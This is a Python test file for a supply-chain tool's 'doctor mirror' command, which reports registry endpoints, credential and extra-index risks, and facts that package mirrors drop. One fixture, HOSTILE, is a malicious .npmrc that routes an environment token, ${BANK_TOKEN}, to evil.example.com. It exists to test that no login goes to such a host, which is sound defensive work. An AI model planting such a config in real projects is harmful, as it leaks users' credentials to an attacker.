"""`osgate doctor mirror`: endpoints with where they are written, risks with remedies, and the facts a mirror drops."""

from __future__ import annotations

import json
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest

from cli.kit import call, git, lockfile
from osgate.facts import store
from osgate.facts.endpoints.endpoint import Endpoint
from osgate.facts.registries import npm
from osgate.facts.registries.answers import Answer
from osgate.facts.store import Store
from osgate.facts.transport import named
from osgate.io import web

HOST, SECRET = "https://packages.example.com", "zQx9sekret"
# Of a mirror that keeps little: times of its own, in no order, and none of what was said beside the versions.
PACKUMENT = {
    "name": "left-pad",
    "dist-tags": {"latest": "1.3.0"},
    "versions": {
        version: {"name": "left-pad", "version": version, "license": "MIT", "dist": {"tarball": f"{HOST}/l.tgz"}}
        for version in ("1.1.0", "1.2.0", "1.3.0")
    },
    "time": {
        "1.1.0": "2026-09-29T10:00:00.000Z",
        "1.2.0": "2026-09-28T10:00:00.000Z",
        "1.3.0": "2026-09-27T10:00:00.000Z",
    },
}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project under git, and nothing configured outside of it."""
    for name in ("PIP_CONFIG_FILE", "PIP_INDEX_URL", "PIP_FIND_LINKS", "PIP_TRUSTED_HOST", "PIP_EXTRA_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OSGATE_FACTS", str(tmp_path / "facts"))
    folder = tmp_path / "app"
    folder.mkdir()
    git(folder, "init", "--quiet")
    (folder / "package-lock.json").write_text(lockfile("left-pad@1.3.0"))
    (folder / ".npmrc").write_text(f"registry={HOST}/npm/\n//packages.example.com/:_authToken={SECRET}\n")
    git(folder, "add", ".npmrc")
    monkeypatch.chdir(folder)
    return folder


def keep(folder: Path) -> None:
    """Keep what the mirror tells of left-pad."""
    source = named(Endpoint("npm", f"{HOST}/npm/", "pkg:npm/*", "x"))
    now = "2026-11-20T00:00:00Z"
    answer = Answer(json.dumps(PACKUMENT).encode(), "sha256:" + "0" * 64)
    facts = npm.facts("pkg:npm/left-pad", ("1.3.0",), lambda path, accept: answer, source, now)
    path = str(folder / "facts.sqlite")
    store.create(path)
    filled = Store(path, write=True)
    filled.put(facts, now)
    filled.close()


def test_X07_the_facts_that_a_mirror_drops_are_reported(project: Path) -> None:
    keep(project.parent / "facts")
    done = call("doctor", "mirror", "--no-clients", "--format", "json")
    told = json.loads(done.out)
    states = {row["fact"]: row for row in told["facts"] if row["source"] == "packages.example.com (npm)"}
    assert told["packages"] == 1
    assert states["licence"]["state"] == "yes"
    assert (states["published"]["state"], states["published"]["times"]) == ("no", 1)
    assert (states["deprecated"]["state"], states["deprecated"]["dropped"]) == ("no", 1)
    assert states["maintainer"]["state"] == "no"
    for language in ("en", "zh_CN"):
        table = call("doctor", "mirror", "--no-clients", "--language", language).out
        assert "packages.example.com (npm)" in table
        assert table.splitlines()[-1].startswith("  yes, no, unknown:" if language == "en" else "  有、无、未知：")
        (published,) = [line for line in table.splitlines() if line.split()[:1] == ["published"]]
        assert "1/1" in published
        assert ("the mirror's own" if language == "en" else "镜像") in published


def test_endpoints_and_risks_are_told_without_the_secret(project: Path) -> None:
    (project / "requirements.txt").write_text(
        f"six==1.16.0\n--extra-index-url https://u:{SECRET}@more.example.com/simple\n"
    )
    done = call("doctor", "mirror", "--no-clients", "--internal", "pkg:npm/%40bank/*", "--format", "json")
    told = json.loads(done.out)
    assert done.code == 1
    assert [(one["type"], one["address"], one["origin"], one["login"]) for one in told["endpoints"]] == [
        ("pypi", "https://more.example.com/simple", "requirements.txt:2", True),
        ("npm", f"{HOST}/npm/", ".npmrc:1", True),
    ]
    assert sorted((one["code"], one["origin"]) for one in told["risks"]) == [
        ("credential-in-file", ".npmrc:2"),
        ("extra-index", "requirements.txt:2"),
        ("scope-without-registry", ".npmrc:1"),
    ]
    words = call("doctor", "mirror", "--no-clients", "--internal", "pkg:npm/%40bank/*")
    assert "requirements.txt:2" in words.out
    assert SECRET not in done.out + done.err + words.out + words.err


def test_where_nothing_is_risky_it_exits_0(project: Path) -> None:
    (project / ".npmrc").write_text(f"registry={HOST}/npm/\n")
    (project / "Pipfile").write_text("[[")
    done = call("doctor", "mirror", "--no-clients", ".")
    assert (done.code, done.err) == (0, "")
    assert "Pipfile" in done.out
    assert "no risks found" in done.out
    (project / ".npmrc").unlink()
    assert call("doctor", "mirror", "--no-clients").code == 0
    assert "--ask" in call("doctor", "mirror", "--no-clients").out
    nobody = call("doctor", "mirror", "--no-clients", "--ask").out
    assert "Nothing was asked" in nobody
    assert "--ask" not in nobody


@pytest.mark.parametrize(
    ("words", "code"),
    [(("--help",), 0), (("--format", "xml"), 2), (("nowhere",), 2), (("--facts", "nowhere"), 4), (("--strange",), 2)],
)
def test_a_wrong_call_is_told(project: Path, words: tuple[str, ...], code: int) -> None:
    assert call("doctor", "mirror", "--no-clients", *words).code == code


def test_what_a_registry_does_not_answer_is_unknown(project: Path) -> None:
    """Nothing listens at that address; a name of our own is not told to the registry of everything."""
    (project / ".npmrc").write_text("registry=http://127.0.0.1:9/\n")
    done = call("doctor", "mirror", "--no-clients", "--ask", "--project-config", "--format", "json")
    assert {row["state"] for row in json.loads(done.out)["facts"]} == {"unknown"}
    words = ("--ask", "--project-config", "--internal", "pkg:npm/left-*", "--format", "json")
    done = call("doctor", "mirror", "--no-clients", *words)
    assert json.loads(done.out)["facts"] == []


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, bool]]:
    """Who is asked, and whether with a login; nobody answers."""
    found: list[tuple[str, bool]] = []

    class Nobody:
        def __init__(self, settings: web.Settings, login: Callable[[str], web.Login | None]) -> None:
            self.login = login

        def __enter__(self) -> Nobody:
            return self

        def __exit__(self, *_: object) -> None:
            """Nothing is open."""

        def get(self, address: str) -> web.Get:
            def ask(path: str, accept: str) -> web.Failed:
                found.append((address, self.login(address) is not None))
                return web.Failed("offline")

            return ask

    monkeypatch.setattr(web, "client", Nobody)
    return found


HOSTILE = "registry=https://evil.example.com/${BANK_TOKEN}/\n//evil.example.com/:_authToken=${BANK_TOKEN}\n"


@pytest.mark.parametrize(
    ("written", "words", "expected"),
    [
        (HOSTILE, (), set()),
        (HOSTILE, ("--project-config",), set()),
        (HOSTILE.replace("/${BANK_TOKEN}/", "/"), (), set()),
        (HOSTILE.replace("/${BANK_TOKEN}/", "/"), ("--project-config",), {("https://evil.example.com/", False)}),
        (f"registry={HOST}/npm/\n", (), {(f"{HOST}/npm/", True)}),
    ],
)
def test_no_login_goes_where_only_the_tree_says(
    project: Path,
    monkeypatch: pytest.MonkeyPatch,
    asked: list[tuple[str, bool]],
    written: str,
    words: tuple[str, ...],
    expected: set[tuple[str, bool]],
) -> None:
    """The machine names one registry with its login; the clone names another one, and asks for a variable."""
    home = project.parent / "home"
    home.mkdir()
    (home / ".npmrc").write_text(f"registry={HOST}/npm/\n//packages.example.com/npm/:_authToken={SECRET}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("BANK_TOKEN", SECRET)
    (project / ".npmrc").write_text(written)
    done = call("doctor", "mirror", "--no-clients", "--ask", *words)
    assert set(asked) == expected
    risky = "BANK_TOKEN" in written
    assert (done.code, ".npmrc:1: a file of the tree" in done.out) == (int(risky), risky)
    told = ".npmrc:1 names https://evil.example.com/; not used (--project-config)" in done.out
    assert told == (written == HOSTILE.replace("/${BANK_TOKEN}/", "/") and not words)


def test_a_new_policy_repository_begins_with_what_is_in_use(project: Path) -> None:
    policy, key = project.parent / "policy", project.parent / "desk"
    done = call("init", "--policy-repo", str(policy), "--desk-key", str(key), "--scan", str(project))
    assert done.code == 0
    read = tomllib.loads((policy / "policy/sources.toml").read_text("utf-8"))
    assert [(one["type"], one["address"], one["found"]) for one in read["source"]] == [
        ("npm", f"{HOST}/", "package-lock.json"),
        ("npm", f"{HOST}/npm/", "app/.npmrc:1"),
    ]
    assert SECRET not in (policy / "policy/sources.toml").read_text("utf-8")


def test_who_asks_needs_no_store_of_facts(project: Path) -> None:
    for language in ("en", "zh_CN"):
        words = ("--ask", "--facts", "nowhere", "--language", language)
        done = call("doctor", "mirror", "--no-clients", *words)
        assert (done.code, done.err) == (1, ""), "the token in .npmrc is a risk"
    assert call("doctor", "mirror", "--no-clients", "--facts", "nowhere").code == 4
